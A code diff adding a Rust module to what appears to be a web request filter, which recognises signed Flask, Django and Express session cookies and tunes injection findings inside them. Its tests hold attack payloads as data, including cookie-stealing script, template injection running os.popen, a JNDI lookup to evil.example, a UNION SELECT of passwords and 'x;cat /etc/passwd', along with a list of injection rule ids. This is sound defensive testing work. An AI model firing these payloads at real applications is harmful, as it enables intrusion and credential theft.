@@ -1,0 +1,186 @@
+//! Sessions that an application keeps in a signed cookie: what it wrote there itself comes back with each
+//! request.
+//!
+//! ```text
+//! eyJfZmxhc2hlcyI6..  .  aSrT0w  .  KzX9dGVz..      Flask; `.eJ..` where it is packed
+//! eyJoaXN0b3J5Ijpb..  :  1rXyZa  :  QmFzZTY0..      Django
+//! session=eyJwYXNz..; session.sig=KzX9dGVzdHNpZ25h   cookie-session of Express
+//! ```
+//!
+//! Whoever reads such a cookie checks the signature first, so that addresses, paths and whole statements or
+//! commands in it are messages of the application to itself. A visitor has typed some of them: what breaks out
+//! of a string, markup that runs, templates, code, lookups and serialised objects count as anywhere.
+
+use crate::decode::{self, base64_value};
+use crate::{Analysis, ByteGroups, Class};
+
+/// Characters of a signature: HMAC-SHA1 in Base64 and longer ones.
+const SIGNATURE_BYTES_MIN: usize = 26;
+/// Characters of a time in Base64 or base 62.
+const TIME_BYTES: std::ops::RangeInclusive<usize> = 5..=11;
+/// A session that is unpacked here; browsers keep no more than 4 KiB of a cookie.
+const SESSION_BYTES_MAX: u64 = 32 << 10;
+
+/// True if a cookie of this value, and of this signature in a cookie beside it, is a document of JSON that an
+/// application has signed.
+pub(crate) fn is_signed(value: &[u8], beside: Option<&[u8]>) -> bool {
+    let value = value.strip_prefix(b"\"").and_then(|value| value.strip_suffix(b"\"")).unwrap_or(value);
+    if beside.is_some_and(is_signature) && is_document(value) {
+        return true;
+    }
+    [b'.', b':'].iter().any(|sign| {
+        let mut parts = value.rsplitn(3, |b| b == sign);
+        let (Some(signature), Some(time), Some(payload)) = (parts.next(), parts.next(), parts.next()) else {
+            return false;
+        };
+        let is_time = TIME_BYTES.contains(&time.len()) && time.iter().all(|b| is_letter(*b));
+        is_signature(signature) && is_time && is_document(payload)
+    })
+}
+
+fn is_signature(text: &[u8]) -> bool {
+    text.len() >= SIGNATURE_BYTES_MIN && text.iter().all(|b| is_letter(*b))
+}
+
+fn is_letter(b: u8) -> bool {
+    base64_value(b).is_some()
+}
+
+/// JSON in Base64, packed where a dot says so.
+fn is_document(payload: &[u8]) -> bool {
+    let (payload, is_packed) = match payload.strip_prefix(b".") {
+        Some(packed) => (packed, true),
+        None => (payload, false),
+    };
+    let text: &[u8] = &payload[..payload.len() - payload.iter().rev().take_while(|b| **b == b'=').count()];
+    let mut bytes = Vec::with_capacity(text.len() * 3 / 4);
+    let (mut bits, mut count) = (0, 0);
+    for b in text {
+        let Some(value) = base64_value(*b) else { return false };
+        (bits, count) = (bits << 6 | value, count + 6);
+        if count >= 8 {
+            count -= 8;
+            bytes.push((bits >> count) as u8);
+        }
+    }
+    let is_json = |text: &[u8]| decode::is_json(text, ByteGroups::of(text));
+    match is_packed {
+        true => {
+            decode::inflate(&bytes, SESSION_BYTES_MAX).is_some_and(|(text, is_all)| is_all && is_json(&text))
+        }
+        false => is_json(&bytes),
+    }
+}
+
+impl Analysis {
+    /// What was found in the values from number `from` on, those of a signed session, counts for nothing where
+    /// it is an address, a path, a whole statement or a whole command.
+    pub(crate) fn excuse_session(&mut self, from: usize) {
+        // What ends a string or a command before it begins its own.
+        const BREAKS: [&str; 17] = [
+            "sqli.after-quote",
+            "sqli.after-backtick",
+            "sqli.reopened",
+            "sqli.quote-comment",
+            "sqli.comment-end",
+            "sqli.unbalanced",
+            "sqli.stacked",
+            "sqli.union-select",
+            "sqli.execute-function",
+            "command.semicolon",
+            "command.pipe",
+            "command.ampersand",
+            "command.logical",
+            "command.newline",
+            "command.substitution",
+            "command.quote-break",
+            "command.piped-to-shell",
+        ];
+        let breaks_out = |class: Class| {
+            let mut found = self.findings().iter().filter(|found| found.value as usize >= from);
+            found.any(|found| found.class == class && BREAKS.contains(&found.kind.id))
+        };
+        let mut classes = vec![Class::Ssrf, Class::RemoteFile, Class::Redirect, Class::Path];
+        classes.extend([Class::Sqli, Class::Command].into_iter().filter(|class| !breaks_out(*class)));
+        self.excuse_from(from, &classes);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write as _;
+    use std::sync::LazyLock;
+
+    use data_encoding::BASE64URL_NOPAD;
+
+    use super::*;
+    use crate::{Detectors, Level};
+
+    static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);
+    const SIGNATURE: &str = "KzX9dGVzdHNpZ25hdHVyZXh4eXo";
+
+    /// The class that blocks a request with these cookies at `balanced`, or nothing.
+    fn verdict(cookies: &str) -> &'static str {
+        let mut analysis = Analysis::new();
+        let fields = [(&b"Cookie"[..], cookies.as_bytes())];
+        analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
+        let worst = analysis.worst(&DETECTORS, Level::Balanced);
+        worst.filter(|worst| worst.blocks(Level::Balanced)).map_or("", |worst| worst.class.name())
+    }
+
+    /// The session as each framework writes it.
+    fn cookies(json: &str) -> [String; 4] {
+        let plain = BASE64URL_NOPAD.encode(json.as_bytes());
+        // Long enough to be worth packing.
+        let json = format!("[{json},{}]", vec![r#"{"category":"info","seen":false}"#; 20].join(","));
+        let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+        packer.write_all(json.as_bytes()).unwrap();
+        let packed = BASE64URL_NOPAD.encode(&packer.finish().unwrap());
+        [
+            format!("session={plain}.aSrT0w.{SIGNATURE}"),
+            format!("a=1; session=.{packed}.aSrT0w.{SIGNATURE}"),
+            format!("messages={plain}:1rXyZa:{SIGNATURE}"),
+            format!("session={plain}; session.sig={SIGNATURE}"),
+        ]
+    }
+
+    #[test]
+    fn messages_of_an_application_to_itself() {
+        for json in [
+            r#"{"_flashes":[["error","http://10.0.0.5:9090/metrics is watched already"]]}"#,
+            r#"{"next":"http://10.0.0.5:9090/metrics"}"#,
+            r#"{"saved":["~/.ssh/config","/etc/passwd"]}"#,
+            r#"{"recent":["SELECT name, pass FROM users WHERE id = 3","cat /etc/hosts"]}"#,
+        ] {
+            for cookies in cookies(json) {
+                assert_eq!(verdict(&cookies), "", "{cookies}");
+            }
+        }
+    }
+
+    #[test]
+    fn what_acts_counts_in_a_session_too() {
+        for json in [
+            r#"{"name":"<script>alert(document.cookie)</script>"}"#,
+            r#"{"name":"{{ self.__init__.__globals__.os.popen('id').read() }}"}"#,
+            r#"{"name":"${jndi:ldap://evil.example/a}"}"#,
+            r#"{"name":"x' union select user, password from users-- "}"#,
+            r#"{"host":"x;cat /etc/passwd"}"#,
+        ] {
+            for cookies in cookies(json) {
+                assert_ne!(verdict(&cookies), "", "{cookies}");
+            }
+        }
+    }
+
+    /// Without a signature, a time or a document it is a value like any other.
+    #[test]
+    fn what_nobody_has_signed() {
+        let [flask, _, django, express] = cookies(r#"{"next":"http://10.0.0.5:9090/metrics"}"#);
+        assert_ne!(verdict(&flask.replace(SIGNATURE, "short")), "");
+        assert_ne!(verdict(&django.replace(":1rXyZa", "")), "");
+        assert_ne!(verdict(express.split(';').next().unwrap()), "");
+        let [text, ..] = cookies("http://10.0.0.5:9090/metrics");
+        assert_ne!(verdict(&text), "");
+    }
+}
